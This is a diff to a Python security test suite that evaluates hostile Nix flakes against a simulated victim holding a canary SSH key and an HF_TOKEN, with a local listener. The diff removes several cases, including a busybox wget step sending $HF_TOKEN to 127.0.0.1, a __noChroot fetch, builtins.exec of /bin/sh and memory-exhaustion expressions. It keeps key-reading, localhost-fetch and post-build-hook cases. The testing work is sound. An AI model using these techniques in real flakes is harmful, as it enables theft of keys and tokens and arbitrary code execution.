@@ -11,7 +11,7 @@ import json
 import os
 import subprocess
 from collections.abc import Iterator
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from threading import Thread
@@ -19,7 +19,6 @@ from typing import Any
 
 import pytest
 
-from tests.build.one_step import BUSYBOX
 from tests.cli.command_line import Cli, Ran
 from tests.evaluation import SYSTEM
 from tests.hub.built import write_variant
@@ -43,22 +42,6 @@ LIMITED = ("bash", "-c", 'ulimit -v 4000000; exec timeout 60 "$@"', "bash")
 FLAKE = """{
   @head@
   outputs = inputs: let
-    step = attributes: derivation ({
-      name = "harm-@salt@"; system = "@system@"; builder = "/bin/sh";
-      args = [ "-c" "echo 1 > $out" ];
-    } // attributes);
-    # Its output is the answer of the listener.
-    fixed = {
-      outputHash = builtins.hashString "sha256" "hello";
-      outputHashAlgo = "sha256";
-      outputHashMode = "flat";
-    };
-    ask = {
-      busybox = @busybox@;
-      args = [ "-c"
-        "exec -a busybox $busybox wget -q -O $out http://127.0.0.1:@port@/$HF_TOKEN" ];
-    };
-    download = step (fixed // ask // { impureEnvVars = [ "HF_TOKEN" ]; });
     harm = builtins.trace "@evaluated@" (@expression@);
   in builtins.seq harm {
     inherit harm;
@@ -79,108 +62,49 @@ class Attack:
     harm: str
     expression: str
     head: str = ""
-    files: dict[str, str] = field(default_factory=dict)
     lock: dict[str, Any] | None = None
     # Options of Nix without which it would refuse the attack.
     options: tuple[str, ...] = ()
 
 
-def lock_of(name: str, **locked: Any) -> dict[str, Any]:
-    """Return a lock with one input."""
-    node = {"locked": locked, "original": locked, "flake": name != "s"}
-    nodes = {"root": {"inputs": {name: name}}, name: node}
-    return {"version": 7, "root": "root", "nodes": nodes}
-
-
-def allow(address: str) -> dict[str, Any]:
-    """Return a lock without inputs whose root names an address."""
-    root = {"inputs": {}, "locked": {"type": "git", "url": address}}
-    return {"version": 7, "root": "root", "nodes": {"root": root}}
+def lock_of(root: dict[str, Any], **nodes: Any) -> dict[str, Any]:
+    return {"version": 7, "root": "root", "nodes": {"root": root, **nodes}}
 
 
 READ_KEY = 'builtins.readFile "@secret@/id_rsa"'
-READ_INPUT = 'builtins.readFile (inputs.s + "/id_rsa")'
-OTHER_LIBRARY = f"{{ outputs = _: {{ lib.genKernelFlakeOutputs = _: {READ_KEY}; }}; }}"
+FOLDER = {"type": "path", "path": "@secret@", "narHash": "@hash@"}
 ATTACKS = (
     Attack(
         "outputs with variants, a manifest and a bundle of its own",
         "evaluated",
         '"torch213-cxx11-cpu-elsewhere"',
     ),
-    # ---- reads the machine ----
     Attack("`builtins.readFile` of a key", "read", READ_KEY),
-    Attack(
-        "`builtins.fetchGit` of the user's repository, `file:///` in the root of the lock",
-        "read",
-        'builtins.readFile ((builtins.fetchGit { url = "file://@secret@"; rev = "@commit@"; })'
-        '.outPath + "/id_rsa")',
-        lock=allow("file:///"),
-    ),
-    Attack("`builtins.path` of a folder", "kept", 'builtins.path { path = /. + "@secret@"; }'),
-    Attack(
-        "`builtins.getFlake` of a folder",
-        "read",
-        '(builtins.getFlake "path:@library@").lib.genKernelFlakeOutputs { }',
-    ),
-    # ---- reads through its inputs ----
     Attack(
         "an input that is a folder, locked",
         "read",
-        READ_INPUT,
+        'builtins.readFile (inputs.s + "/id_rsa")',
         'inputs.s = { url = "path:@secret@"; flake = false; };',
-        lock=lock_of("s", type="path", path="@secret@", narHash="@hash@"),
+        lock=lock_of(
+            {"inputs": {"s": "s"}}, s={"locked": FOLDER, "original": FOLDER, "flake": False}
+        ),
     ),
-    Attack(
-        "an input that is an address of this machine",
-        "asked",
-        READ_INPUT,
-        'inputs.s = { url = "http://127.0.0.1:@port@/s.tar.gz"; flake = false; };',
-    ),
-    Attack(
-        "a kernel-builder that reads a key",
-        "read",
-        "inputs.kernel-builder.lib.genKernelFlakeOutputs { }",
-        'inputs.kernel-builder.url = "path:@library@";',
-    ),
-    # ---- sends ----
     Attack(
         "`builtins.fetchurl` of 127.0.0.1, `http://` in the root of the lock",
         "asked",
         'builtins.readFile (builtins.fetchurl "http://127.0.0.1:@port@/asked")',
-        lock=allow("http://"),
+        lock=lock_of({"inputs": {}, "locked": {"type": "git", "url": "http://"}}),
     ),
-    Attack(
-        "a download step with a builder of its own and `impureEnvVars`",
-        "asked",
-        "builtins.readFile download.outPath",
-    ),
-    # ---- runs ----
-    Attack(
-        "`builtins.exec`",
-        "run",
-        'toString (builtins.exec [ "/bin/sh" "-c" "echo > @proof@; echo 1" ])',
-        options=("allow-unsafe-native-code-during-evaluation", "true"),
-    ),
-    Attack("import from a derivation", "kept", "toString (import (step { }).outPath)"),
     Attack(
         "`nixConfig` with a post-build-hook and sandbox = false",
         "run",
-        "toString (import (step { }).outPath)",
+        """toString (import (derivation {
+          name = "harm-@salt@"; system = "@system@"; builder = "/bin/sh";
+          args = [ "-c" "echo 1 > $out" ];
+        }).outPath)""",
         'nixConfig = { post-build-hook = "@hook@"; sandbox = false; };',
         options=("accept-flake-config", "true"),
     ),
-    Attack(
-        "a step with `__noChroot`",
-        "asked",
-        """builtins.readFile (step (ask // {
-          __noChroot = true;
-          args = [ "-c" "/bin/cp $busybox wget; ./wget -q -O $out http://127.0.0.1:@port@" ];
-        })).outPath""",
-        options=("sandbox", "relaxed"),
-    ),
-    # ---- uses up the machine ----
-    Attack("recursion without a bottom", "evaluated", "let f = x: f (x + 1) + 1; in f 1"),
-    Attack("a list of 16 GB", "evaluated", "builtins.length (builtins.genList (n: n) 2000000000)"),
 )
 
 
@@ -218,7 +142,7 @@ def run(*argv: str, cwd: Path | None = None, **variables: str) -> Ran:
 
 
 class Victim:
-    """A user with a key in a repository, a token, a server, and the kernel of a stranger."""
+    """A user with a key, a token, a server, and the kernel of a stranger."""
 
     def __init__(self, folder: Path, listener: Listener) -> None:
         self.folder, self.listener = folder, listener
@@ -229,7 +153,6 @@ class Victim:
         salt = hashlib.sha256(str(folder).encode()).hexdigest()[:16]
         self.secret.mkdir()
         (self.secret / "id_rsa").write_text(f"{CANARY} {salt}\n")
-        commit_all(self.secret)
         hook = folder / "hook"
         hook.write_text(f"#!/bin/sh\necho > {self.proof}\n")
         hook.chmod(0o755)
@@ -240,18 +163,11 @@ class Victim:
             "system": SYSTEM,
             "salt": salt,
             "evaluated": EVALUATED,
-            "busybox": str(BUSYBOX),
-            "kernel": str(self.kernel),
             "secret": str(self.secret),
-            "library": str(folder / "library"),
-            "proof": str(self.proof),
             "hook": str(hook),
             "port": str(listener.server_port),
-            "commit": self._ask("git", "rev-parse", "HEAD"),
-            "digest": self._ask("sha256sum", "id_rsa")[:64],
             "hash": self._ask(*NIX, "hash", "path", "."),
         }
-        self.write(folder / "library" / "flake.nix", OTHER_LIBRARY)
 
     def _ask(self, *argv: str) -> str:
         return run(*argv, cwd=self.secret).stdout.strip()
@@ -267,7 +183,7 @@ class Victim:
         """Write the files of an attack into the kernel."""
         flake = FLAKE.replace("@head@", attack.head).replace("@expression@", attack.expression)
         lock = {"flake.lock": json.dumps(attack.lock)} if attack.lock else {}
-        for name, text in {"flake.nix": flake, **attack.files, **lock}.items():
+        for name, text in {"flake.nix": flake, **lock}.items():
             self.write(self.kernel / name, text)
 
     def list_kept(self) -> list[str]:
